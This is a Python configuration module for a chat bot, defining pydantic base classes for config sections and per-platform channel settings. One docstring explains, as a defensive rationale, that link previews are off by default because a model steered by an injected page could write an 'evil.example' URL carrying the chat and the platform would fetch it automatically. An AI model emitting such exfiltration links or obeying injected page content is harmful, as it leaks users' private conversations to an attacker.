"""The base of every configuration section, shared with channel packages' settings."""

from __future__ import annotations

from typing import ClassVar

from pydantic import BaseModel, ConfigDict


class Section(BaseModel):
    """A ``[section]`` of bot.toml: unknown keys are errors, defaults are validated too.

    An empty list or dict default is written ``Field(default=[])``: pydantic copies a
    mutable default for each model, and ``default_factory=list`` made it parse the
    builtin's text signature at class creation (milliseconds of every start-up).
    """

    model_config = ConfigDict(extra="forbid", validate_default=True)
    # Keys still accepted but ignored, each with what replaced it (bot.config.deprecated):
    # a config an earlier `bot init` wrote keeps loading, and says so at start-up.
    DEPRECATED: ClassVar[dict[str, str]] = {}


class ChannelSection(Section):
    """The base of every ``[channels.<name>]`` section: the keys all platforms share.

    ``streaming = false`` turns streamed previews off for that platform: its chats get
    the final answer only, as one message (or several past the length limit).

    ``link_previews = true`` lets the platform preview, embed or unfurl the links in the
    bot's messages (each adapter says how). Off by default: the platform's
    servers fetch such a link as soon as it is posted, with no one clicking, so a model
    steered by a page it read into writing ``https://evil.example/?d=<the chat>`` would
    leak the chat on its own.
    """

    streaming: bool = True
    link_previews: bool = False
